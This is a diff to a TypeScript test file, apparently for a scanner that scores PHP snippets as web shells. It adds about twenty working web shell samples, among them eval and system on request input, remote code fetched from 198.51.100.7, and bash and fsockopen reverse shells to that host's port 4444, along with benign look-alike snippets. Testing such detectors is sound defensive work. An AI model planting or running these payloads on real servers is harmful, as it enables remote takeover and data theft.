@@ -26,7 +26,24 @@ const shells: readonly (readonly [string, string, number])[] = [
   ['a file that the request names', '<?php include $_GET["p"];', 0.6],
   ['packed', `<?php eval(base64_decode('${Buffer.from('system($_GET["c"]);').toString('base64')}'));`, 0.9],
   ['behind a comment', '<?php /* a form */ // $_GET\n system # shown\n ($_GET["c"]);', 0.9],
-];
+  ['a function of its own', '<?php function run($x) { return shell_exec($x); } echo run($_GET["c"]);', 0.75],
+  ['a method of its own', '<?php class A { function f($c) { @eval($c); } } (new A)->f($_REQUEST["x"]);', 0.75],
+  ['variables set together', '<?php [$f, $a] = [$_GET["f"], $_GET["a"]]; $f($a);', 0.75],
+  ['a query that is taken apart', '<?php parse_str(file_get_contents("php://input"), $p); system($p["c"]);', 0.8],
+  ['a query that sets variables', '<?php parse_str($_SERVER["QUERY_STRING"]); $f($a);', 0.6],
+  ['all cookies in a variable', '<?php $c = $_COOKIE; $c["f"]($c["a"]);', 0.75],
+  ['a filter that lets all through', '<?php system(filter_input(INPUT_GET, "c")); eval(filter_var($_GET["d"], FILTER_UNSAFE_RAW));', 0.9],
+  ['a header by its variable', '<?php system(getenv("HTTP_ACCEPT_LANGUAGE"));', 0.9],
+  ['a command that is escaped as a whole', '<?php system(escapeshellcmd($_GET["c"]));', 0.8],
+  ['a file that is sent', '<?php eval(file_get_contents($_FILES["f"]["tmp_name"]));', 0.8],
+  ['a file that the request names and fills', '<?php $h = fopen($_GET["n"], "w"); fwrite($h, $_POST["d"]);', 0.5],
+  ['a pattern whose replacement is run', '<?php preg_replace("/.*/e", $_POST["c"], "");', 0.85],
+  ['the body as a page', '<?php include "php://input"; ?>', 0.85],
+  ['code from elsewhere', '<?php eval("?>" . file_get_contents("http://198.51.100.7/a.txt"));', 0.75],
+  ['a shell for an address', '<?php exec("/bin/bash -c \'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\'");', 0.75],
+  ['a socket that becomes a shell', '<?php $s = fsockopen("198.51.100.7", 4444); proc_open("/bin/sh -i", [$s, $s, $s], $x);', 0.75],
+  ['reflection', '<?php (new ReflectionFunction($_GET["f"]))->invoke($_GET["c"]);', 0.65],
+]; // prettier-ignore
 
 /** As programs that everybody uses have them: WordPress, phpMyAdmin, Adminer, Cacti, DokuWiki, GOsa. */
 const honest: readonly (readonly [string, string])[] = [
@@ -45,6 +62,8 @@ const honest: readonly (readonly [string, string])[] = [
   ['a picture in bytes', '<?php $p = chr(137) . chr(80) . chr(78) . chr(71) . chr(13) . chr(10) . chr(26) . chr(10);'],
   ['a new object', '<?php $m = new $_GET["module"]($_GET["x"]);'],
   ['an upload', '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/up/" . md5($_POST["n"]));'],
+  ['a function of its own that quotes', '<?php function run($x) { return exec("id " . escapeshellarg($x)); } run($_GET["u"]);'],
+  ['a list of what a form holds', '<?php [$a, $b] = [$_POST["a"], $_POST["b"]]; save($a, $b); exec("sync");'],
   ['text about it outside of PHP', '<p>Never write eval($_GET["x"]) or `$_POST[1]`.</p><?php echo 1; ?>'],
 ]; // prettier-ignore
 
@@ -89,6 +108,11 @@ describe('PHP that runs what a request brings', () => {
       '${',
       'extract($_GET',
       "''^''",
+      'function f($a){system($a);}f($_GET[1]);',
+      'f(',
+      'list($a,$a,',
+      'parse_str(',
+      'eval(file_get_contents(',
       '\\x',
     ];
     expect(parts.filter((part) => used(part.repeat(2 ** 16 / part.length)) > 1.5)).toEqual([]);
